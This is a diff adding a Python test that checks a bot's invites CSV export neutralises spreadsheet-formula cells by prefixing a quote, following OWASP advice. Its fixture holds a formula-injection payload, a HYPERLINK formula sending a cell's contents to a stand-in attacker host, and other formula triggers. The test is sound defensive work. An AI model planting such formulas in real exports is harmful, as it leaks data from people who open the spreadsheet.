@@ -313,3 +313,23 @@ def test_settings_name_the_card_fonts(tmp_path):
     with pytest.raises(ValueError, match="CARD_FONTS: .* not found"):
         Settings.from_env({"CARD_FONTS": str(tmp_path / "none.ttf")}, require_token=False)
     assert load_messages  # the import reads the catalog the bot reads
+
+
+async def test_no_cell_of_the_invites_csv_can_run_in_a_spreadsheet(harness, clock, tmp_path, monkeypatch):
+    """A name or reference that a spreadsheet would take for a formula is written with a quote in front
+    (OWASP's advice), and ``aftercare cards`` reads the name back as it was."""
+    formula = '=HYPERLINK("https://evil.example/?"&F2,"Open")'
+    path = write(tmp_path, "name,external_id\n" + f'"{formula.replace(chr(34), chr(34) * 2)}",@A-1\n'
+                 "+Maria,-B2\n")
+    outcome, lines = do_import(harness, path, cards=False)
+    assert outcome.status == 0, lines
+    table = list(csv.reader(io.StringIO(outcome.csv_path.read_text(encoding="utf-8-sig"))))
+    assert [(line[2], line[3]) for line in table[1:]] == [("'" + formula, "'@A-1"), ("'+Maria", "'-B2")]
+    for line in table:
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in line), line
+    with Session(harness.services.store.engine) as session:  # the database keeps the names as given
+        assert [p.name for p in session.exec(select(Patient).order_by(Patient.id))] == [formula, "+Maria"]
+    from bot.invite_sheets import read_invite_csv
+
+    assert [row["name"] for row in read_invite_csv(outcome.csv_path.read_text(encoding="utf-8"))] == [
+        formula, "+Maria"]
